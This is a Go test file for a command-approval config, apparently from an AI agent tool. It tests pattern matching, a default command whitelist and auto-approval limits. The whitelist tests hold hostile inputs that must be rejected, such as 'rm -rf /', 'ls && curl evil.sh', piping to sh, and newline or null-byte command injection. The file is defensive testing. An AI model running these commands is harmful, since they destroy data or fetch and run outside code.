package config

import (
	"testing"
)

func TestMatchesPattern(t *testing.T) {
	tests := []struct {
		name      string
		command   string
		pattern   string
		matchType string
		want      bool
	}{
		{"exact match prefix type", "npm", "npm", MatchTypePrefix, true},
		{"prefix with args", "npm install express", "npm", MatchTypePrefix, true},
		{"multi-word prefix", "git status --short", "git status", MatchTypePrefix, true},
		{"no space boundary", "npminstall", "npm", MatchTypePrefix, false},
		{"different command", "yarn install", "npm", MatchTypePrefix, false},
		{"exact type matches itself", "ls", "ls", MatchTypeExact, true},
		{"exact type rejects args", "ls -la", "ls", MatchTypeExact, false},
		{"unspecified type behaves as prefix", "go test ./...", "go test", "", true},
		{"surrounding whitespace", "  pwd  ", "pwd", MatchTypeExact, true},
		{"empty pattern", "ls", "", MatchTypePrefix, false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := matchesPattern(tt.command, tt.pattern, tt.matchType); got != tt.want {
				t.Errorf("matchesPattern(%q, %q, %q) = %v, want %v", tt.command, tt.pattern, tt.matchType, got, tt.want)
			}
		})
	}
}

func TestApprovalConfig_IsCommandWhitelisted(t *testing.T) {
	approval := ApprovalConfig{CommandWhitelist: DefaultCommandWhitelist()}

	tests := []struct {
		command string
		want    bool
	}{
		{"git status", true},
		{"git status --short", true},
		{"ls -la", true},
		{"pwd", true},
		{"pwd -P", false},
		{"rm -rf /", false},
		{"", false},
		{"ls; rm -rf /", false},
		{"ls && curl evil.sh", false},
		{"ls | sh", false},
		{"ls $(whoami)", false},
		{"ls > out.txt", false},
		{"ls & rm -rf /", false},
		{"ls &>x", false},
		{"ls (rm -rf /)", false},
		{"ls $HOME", false},
		{"ls ${HOME}", false},
		{"ls\rrm -rf /", false},
		{"ls\trm", false},
		{"ls\x00rm", false},
		{"git status\nrm -rf /", false},
	}

	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			if got := approval.IsCommandWhitelisted(tt.command); got != tt.want {
				t.Errorf("IsCommandWhitelisted(%q) = %v, want %v", tt.command, got, tt.want)
			}
		})
	}
}

func TestApprovalConfig_AutoApproval(t *testing.T) {
	var approval ApprovalConfig

	if approval.IsActionAutoApproved("writeFile") {
		t.Error("writeFile should require approval by default")
	}

	if err := approval.SetAutoApproval("writeFile", true); err != nil {
		t.Fatalf("SetAutoApproval(writeFile) error = %v", err)
	}
	if !approval.IsActionAutoApproved("writeFile") {
		t.Error("writeFile should be auto-approved after enabling it")
	}

	if err := approval.SetAutoApproval("executeTerminal", true); err == nil {
		t.Error("executeTerminal must not be auto-approvable")
	}
	approval.AutoApprove["executeTerminal"] = true
	if approval.IsActionAutoApproved("executeTerminal") {
		t.Error("executeTerminal must ignore auto_approve")
	}

	if err := approval.SetAutoApproval("readFile", true); err == nil {
		t.Error("readFile does not need consent and should be rejected")
	}
}
